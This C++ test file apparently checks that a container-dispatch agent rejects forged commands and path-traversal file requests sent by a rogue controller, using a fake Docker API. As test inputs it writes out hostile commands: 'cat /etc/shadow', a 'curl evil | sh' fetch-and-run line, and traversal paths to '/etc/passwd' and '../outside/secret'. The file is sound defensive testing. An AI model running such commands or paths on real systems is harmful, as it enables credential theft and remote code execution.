// A rogue controller: the real Agent connects to a controller over TCP on
// loopback that is not dispatchd's, and that controller forges what it sends.
// Only the agent holds the Docker socket, so what it refuses here is what an
// attacker who took over (or impersonated) a controller cannot do on its
// host:
//   - exec anything in a container whose own labels do not declare exactly
//     that command for that event id, or start a container whose labels do
//     not say container.start: REJECTED, and Docker is not asked to create
//     an exec or start anything;
//   - reach files outside the events directory through Settled notices,
//     Emit writes or dead-letter requests.
// Docker is the fake Docker API (the test owns the containers and sees every
// call the agent makes); the events directory is a real one.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <functional>
#include <map>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include <grpcpp/grpcpp.h>

#include "absl/strings/str_cat.h"
#include "absl/synchronization/mutex.h"
#include "absl/time/clock.h"
#include "agent/agent.h"
#include "agent/testing/fake_docker_api.h"
#include "common/testing/fake_clock.h"
#include "agent/testing/files.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "proto/dispatch/v1/session.grpc.pb.h"

namespace dispatchd {
namespace agent {
namespace {

using ::dispatchd::agent::testing::ReadFile;
using ::dispatchd::agent::testing::WriteFile;

using dispatch::v1::AgentMessage;
using dispatch::v1::Command;
using dispatch::v1::CommandResult;
using dispatch::v1::ControllerMessage;
using ::testing::ElementsAre;
using Op = FakeDockerApi::Op;

constexpr absl::Duration kPatience = absl::Seconds(30);

// Welcomes any agent, then sends whatever the test queues and records what
// the agent answers (batches unpacked).
class RogueController final : public dispatch::v1::AgentSession::Service {
 public:
  grpc::Status Session(grpc::ServerContext* context,
                       grpc::ServerReaderWriter<ControllerMessage, AgentMessage>* stream) override {
    AgentMessage message;
    if (!stream->Read(&message) || !message.has_hello()) return grpc::Status::CANCELLED;
    ControllerMessage welcome;
    welcome.mutable_welcome()->set_session_id("rogue");
    welcome.mutable_welcome()->set_heartbeat_period_ms(60000);
    if (!stream->Write(welcome)) return grpc::Status::CANCELLED;
    std::thread reader([&] {
      AgentMessage in;
      while (stream->Read(&in)) {
        absl::MutexLock lock(&mu_);
        if (in.has_batch()) {
          for (const AgentMessage& m : in.batch().messages()) received_.push_back(m);
        } else {
          received_.push_back(in);
        }
      }
      absl::MutexLock lock(&mu_);
      agent_gone_ = true;
    });
    absl::MutexLock lock(&mu_);
    while (true) {
      auto ready = [this]() ABSL_EXCLUSIVE_LOCKS_REQUIRED(mu_) {
        return !outbox_.empty() || agent_gone_ || stopping_;
      };
      mu_.Await(absl::Condition(&ready));
      if (outbox_.empty()) break;
      ControllerMessage out = std::move(outbox_.front());
      outbox_.erase(outbox_.begin());
      mu_.Unlock();
      stream->Write(out);
      mu_.Lock();
    }
    context->TryCancel();
    mu_.Unlock();
    reader.join();
    mu_.Lock();
    return grpc::Status::OK;
  }

  void Send(ControllerMessage message) {
    absl::MutexLock lock(&mu_);
    outbox_.push_back(std::move(message));
  }
  void Stop() {
    absl::MutexLock lock(&mu_);
    stopping_ = true;
  }

  // Waits until `done` holds for what the agent sent; returns all of it.
  std::vector<AgentMessage> AwaitReceived(
      const std::function<bool(const std::vector<AgentMessage>&)>& done) {
    absl::MutexLock lock(&mu_);
    auto met = [&]() ABSL_EXCLUSIVE_LOCKS_REQUIRED(mu_) { return done(received_); };
    mu_.AwaitWithTimeout(absl::Condition(&met), kPatience);
    return received_;
  }

  // The results of commands `ids`, once all have come back.
  std::map<uint64_t, CommandResult> AwaitResults(const std::vector<uint64_t>& ids) {
    std::map<uint64_t, CommandResult> results;
    for (const AgentMessage& m : AwaitReceived([&](const std::vector<AgentMessage>& all) {
           size_t n = 0;
           for (const AgentMessage& m : all) {
             for (uint64_t id : ids) n += m.has_command_result() && m.command_result().command_id() == id;
           }
           return n >= ids.size();
         })) {
      if (m.has_command_result()) results[m.command_result().command_id()] = m.command_result();
    }
    return results;
  }

 private:
  absl::Mutex mu_;
  std::vector<ControllerMessage> outbox_ ABSL_GUARDED_BY(mu_);
  std::vector<AgentMessage> received_ ABSL_GUARDED_BY(mu_);
  bool agent_gone_ ABSL_GUARDED_BY(mu_) = false;
  bool stopping_ ABSL_GUARDED_BY(mu_) = false;
};

ContainerInfo Container(const std::string& id, const std::string& name, ContainerState state,
                        std::map<std::string, std::string> labels) {
  ContainerInfo info;
  info.id = id;
  info.name = name;
  info.state = state;
  info.labels = std::move(labels);
  return info;
}

ControllerMessage MakeCommand(uint64_t id, const std::string& container, const std::string& event,
                              std::vector<std::string> argv, bool start = false) {
  ControllerMessage message;
  Command* command = message.mutable_command();
  command->set_command_id(id);
  command->set_container_id(container);
  command->set_event_id(event);
  for (std::string& arg : argv) command->add_argv(std::move(arg));
  command->set_start_container(start);
  command->add_env("DISPATCH_EVENT_ID=" + event);
  return message;
}

class RogueControllerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string base = absl::StrCat(std::getenv("TEST_TMPDIR"), "/rogue_XXXXXX");
    ASSERT_NE(mkdtemp(base.data()), nullptr);
    base_ = base;
    events_ = base_ + "/events";
    ASSERT_EQ(mkdir(events_.c_str(), 0755), 0);
    ASSERT_EQ(mkdir((base_ + "/outside").c_str(), 0755), 0);
    WriteFile(base_ + "/outside/secret", "keep me");

    // A handler that declares one command for site.changed; a stopped one
    // that declares a command but not container.start; one with no labels.
    docker_.AddContainer(Container("c-handler", "handler", ContainerState::kRunning,
                                   {{"subscription.site.changed.container.command",
                                     "make -C /src"}}));
    docker_.AddContainer(Container("c-stopped", "backup", ContainerState::kExited,
                                   {{"subscription.backup.now.container.command", "backup"}}));
    docker_.AddContainer(Container("c-plain", "database", ContainerState::kRunning, {}));

    grpc::ServerBuilder builder;
    builder.RegisterService(&controller_);
    int port = 0;
    builder.AddListeningPort("127.0.0.1:0", grpc::InsecureServerCredentials(), &port);
    server_ = builder.BuildAndStart();
    ASSERT_NE(server_, nullptr);
    ASSERT_GT(port, 0);

    AgentOptions options;
    options.agent_id = "victim-host";
    options.events_dir = events_;
    agent_ = std::make_unique<Agent>(
        options, &docker_, &clock_,
        grpc::CreateChannel(absl::StrCat("127.0.0.1:", port), grpc::InsecureChannelCredentials()));
    ASSERT_TRUE(agent_->Start().ok());
    // The agent is in once its inventory arrived.
    controller_.AwaitReceived([](const std::vector<AgentMessage>& all) {
      for (const AgentMessage& m : all) {
        if (m.has_inventory_snapshot() && m.inventory_snapshot().containers_size() == 3) return true;
      }
      return false;
    });
  }

  void TearDown() override {
    if (agent_ != nullptr) agent_->Stop();
    controller_.Stop();
    if (server_ != nullptr) server_->Shutdown();
  }

  std::string base_;
  std::string events_;
  FakeDockerApi docker_;
  FakeClock clock_;
  RogueController controller_;
  std::unique_ptr<grpc::Server> server_;
  std::unique_ptr<Agent> agent_;
};

TEST_F(RogueControllerTest, ForgedCommandsAreRejectedAndNothingRuns) {
  // A command for a container with no subscription label at all.
  controller_.Send(MakeCommand(1, "c-plain", "site.changed", {"sh", "-c", "cat /etc/shadow"}));
  // Another argv than the label declares.
  controller_.Send(MakeCommand(2, "c-handler", "site.changed", {"sh", "-c", "curl evil | sh"}));
  // The label's own argv, for an event id it does not subscribe to.
  controller_.Send(MakeCommand(3, "c-handler", "other.event", {"make", "-C", "/src"}));
  // A prefix of the label's argv (the old dispatcher matched prefixes).
  controller_.Send(MakeCommand(4, "c-handler", "site.changed", {"make"}));
  // container.start for a container whose labels do not ask for it.
  controller_.Send(MakeCommand(5, "c-stopped", "backup.now", {"backup"}, /*start=*/true));
  // Start-only (no argv) for a container with no labels.
  controller_.Send(MakeCommand(6, "c-plain", "site.changed", {}, /*start=*/true));
  // By name instead of id, to look like the handler.
  controller_.Send(MakeCommand(7, "database", "site.changed", {"make", "-C", "/src"}));

  std::map<uint64_t, CommandResult> results = controller_.AwaitResults({1, 2, 3, 4, 5, 6, 7});
  ASSERT_EQ(results.size(), 7u);
  for (const auto& [id, result] : results) {
    EXPECT_EQ(result.outcome(), CommandResult::REJECTED) << "command " << id << ": " << result.error();
    EXPECT_EQ(result.exec_id(), "") << "command " << id;
  }
  EXPECT_EQ(docker_.calls(Op::kCreateExec), 0);
  EXPECT_EQ(docker_.calls(Op::kStartExec), 0);
  EXPECT_EQ(docker_.calls(Op::kStartContainer), 0);
  EXPECT_TRUE(docker_.execs().empty());
  EXPECT_EQ(docker_.container("c-stopped")->state, ContainerState::kExited);

  // The same session still carries what the labels do declare: the
  // refusals above are the labels' doing, not a broken path.
  controller_.Send(MakeCommand(8, "c-handler", "site.changed", {"make", "-C", "/src"}));
  std::map<uint64_t, CommandResult> allowed = controller_.AwaitResults({8});
  ASSERT_EQ(allowed.count(8), 1u);
  EXPECT_EQ(allowed[8].outcome(), CommandResult::DELIVERED) << allowed[8].error();
  ASSERT_EQ(docker_.execs().size(), 1u);
  EXPECT_EQ(docker_.execs()[0].container_id, "c-handler");
  EXPECT_THAT(docker_.execs()[0].argv, ElementsAre("make", "-C", "/src"));
}

TEST_F(RogueControllerTest, ForgedFileRequestsStayInsideTheEventsDirectory) {
  WriteFile(events_ + "/pending", "an event");
  // Settled notices for files the agent never reported: ignored.
  for (const char* key : {"../outside/secret", "/etc/passwd", "pending-not-seen"}) {
    for (auto disposition : {dispatch::v1::Settled::DELETE, dispatch::v1::Settled::DEAD_LETTER}) {
      ControllerMessage settled;
      settled.mutable_settled()->set_key(key);
      settled.mutable_settled()->set_generation(1);
      settled.mutable_settled()->set_disposition(disposition);
      controller_.Send(settled);
    }
  }
  // Emit writes and dead-letter calls aimed outside.
  uint64_t request_id = 0;
  const std::string absolute = base_ + "/outside/emitted";
  for (const std::string& path : {std::string("../outside/secret"), absolute,
                                  std::string("a/../../outside/secret")}) {
    ControllerMessage write;
    write.mutable_write_event()->set_request_id(++request_id);
    write.mutable_write_event()->set_path(path);
    write.mutable_write_event()->set_payload("overwritten");
    controller_.Send(write);
  }
  for (auto op : {dispatch::v1::DeadLetterRequest::REPLAY, dispatch::v1::DeadLetterRequest::PURGE}) {
    ControllerMessage request;
    request.mutable_dead_letter_request()->set_request_id(++request_id);
    request.mutable_dead_letter_request()->set_op(op);
    request.mutable_dead_letter_request()->set_path("../outside/secret");
    controller_.Send(request);
  }
  const uint64_t requests = request_id;
  std::vector<AgentMessage> got = controller_.AwaitReceived([&](const std::vector<AgentMessage>& all) {
    uint64_t answers = 0;
    for (const AgentMessage& m : all) answers += m.has_write_event_result() || m.has_dead_letter_result();
    return answers >= requests;
  });
  uint64_t answers = 0;
  for (const AgentMessage& m : got) {
    if (m.has_write_event_result()) {
      ++answers;
      EXPECT_EQ(m.write_event_result().code(), static_cast<int>(absl::StatusCode::kInvalidArgument))
          << m.write_event_result().error();
    }
    if (m.has_dead_letter_result()) {
      ++answers;
      EXPECT_EQ(m.dead_letter_result().code(), static_cast<int>(absl::StatusCode::kInvalidArgument))
          << m.dead_letter_result().error();
    }
  }
  EXPECT_EQ(answers, requests);
  EXPECT_EQ(ReadFile(base_ + "/outside/secret"), "keep me");
  EXPECT_EQ(ReadFile(absolute), "<missing>");
  EXPECT_EQ(ReadFile(events_ + "/pending"), "an event");
  struct stat st;
  EXPECT_NE(lstat((events_ + "/.dead-letter").c_str(), &st), 0) << "nothing was dead-lettered";
}

}  // namespace
}  // namespace agent
}  // namespace dispatchd
